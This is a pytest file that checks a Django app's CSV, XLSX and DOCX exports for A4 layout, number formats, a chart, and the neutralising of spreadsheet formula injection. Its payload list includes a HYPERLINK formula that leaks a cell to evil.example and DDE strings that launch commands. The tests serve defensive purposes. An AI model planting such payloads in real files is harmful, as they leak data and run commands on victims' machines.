"""Exports in daily use (issues 14 and 10): A4 DOCX with a chart, XLSX percentages as
numbers, figures written with their indicator's precision, and formula injection
neutralised in every CSV, XLSX and DOCX cell (OWASP: a cell that starts with = + - @, a tab
or a carriage return), with the payloads of issue 10 in unit, initiative and indicator
names."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from docx import Document
from docx.shared import Mm
from openpyxl import load_workbook

from initiatives.models import Indicator, Initiative, Region, ScopeKind, Summary
from initiatives.summaries.services.building import summaries_build_period
from tests.initiatives.summaries.summary_data import AS_OF, WEEK, build_world

pytestmark = [pytest.mark.django_db, pytest.mark.dates]

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def poisoned_summary(client, reviewer, unit, other_unit, foreign_unit):
    build_world(unit, other_unit, foreign_unit)
    Region.objects.filter(pk=unit.pk).update(name=PAYLOADS[0])
    Region.objects.filter(pk=other_unit.pk).update(name=PAYLOADS[3])
    Initiative.objects.filter(title="w1 红色物业").update(title=PAYLOADS[1])
    Initiative.objects.filter(title="m1 花开和平").update(title=PAYLOADS[4])
    Initiative.objects.filter(title="w4 退回两次").update(title=PAYLOADS[5])
    Indicator.objects.filter(name="道路").update(name=PAYLOADS[2])  # in 米: whole
    summaries_build_period(period_kind="week", period_start=WEEK, as_of=AS_OF)
    client.force_login(reviewer)
    return Summary.objects.get(scope_kind=ScopeKind.DISTRICT, region=unit.parent)


def download(client, summary, fmt) -> bytes:
    response = client.get(reverse("initiatives:summary_export", args=[summary.pk, fmt]))
    assert response.status_code == 200
    return response.content


def test_csv_cells_never_start_a_formula(client, poisoned_summary):
    content = download(client, poisoned_summary, "csv")
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert [c for c in cells if c.startswith(TRIGGERS)] == []
    assert "'" + PAYLOADS[0] in cells  # the unit, as text
    assert any(c.startswith("'" + PAYLOADS[2]) for c in cells)  # the indicator
    assert "'-1+1" not in [c for c in cells if c == "-1+1"]


def test_xlsx_has_no_formula_and_numbers_as_numbers(client, poisoned_summary):
    content = download(client, poisoned_summary, "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(TRIGGERS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    assert PAYLOADS[0] in texts and PAYLOADS[1] in texts  # kept as they are, as text
    overview = {row[0].value: row[1] for row in workbook["概况"].iter_rows(min_row=2)}
    rate = overview["报送率"]
    assert rate.data_type == "n" and rate.value == pytest.approx(4 / 7, abs=0.001)
    assert rate.number_format == "0.0%"
    units = list(workbook["各单位报送情况"].iter_rows(min_row=2))
    assert units[0][6].number_format == "0.0%" and units[0][6].value == pytest.approx(
        2 / 3, abs=0.001
    )
    indicators = list(workbook["指标进度"].iter_rows(min_row=2))
    target, current = indicators[0][3], indicators[0][4]
    assert (target.value, current.value, target.number_format) == (100, 30, "0")


def test_docx_is_a4_with_a_chart_and_safe_cells(client, poisoned_summary):
    document = Document(io.BytesIO(download(client, poisoned_summary, "docx")))
    section = document.sections[0]
    assert abs(section.page_width - Mm(210)) < Mm(1) and abs(section.page_height - Mm(297)) < Mm(1)
    assert len(document.inline_shapes) == 1  # the chart
    texts = [p.text for p in document.paragraphs]
    texts += [c.text for t in document.tables for r in t.rows for c in r.cells]
    assert [t for t in texts if t.startswith(TRIGGERS)] == []
    indicator_row = [c.text for c in document.tables[2].rows[1].cells]
    assert indicator_row[3:] == ["100", "30", "30.0%"]  # not "100.0"


def test_docx_chart_falls_back_without_a_cjk_font(client, poisoned_summary, monkeypatch):
    from initiatives.summaries import chart

    monkeypatch.setattr(chart, "cjk_font_path", lambda: None)
    document = Document(io.BytesIO(download(client, poisoned_summary, "docx")))
    assert len(document.inline_shapes) == 1
    legend = [p.text for p in document.paragraphs if p.text.startswith("图中序号")]
    assert legend and "1 " in legend[0] and PAYLOADS[3] in legend[0]  # numbers, then names


def test_png_chart_draws_chinese_labels_when_a_font_is_there():
    from PIL import Image

    from initiatives.summaries import chart

    if chart.cjk_font_path() is None:
        pytest.skip("no CJK font on this machine (fonts-noto-cjk)")
    drawn = chart.bar_chart([("和平街道", 66.7), ("公园街道", 50.0), ("即墨路街道", None)])
    assert drawn.legend is None  # names drawn, no legend needed
    image = Image.open(io.BytesIO(drawn.png))
    assert image.format == "PNG" and image.width >= 1000
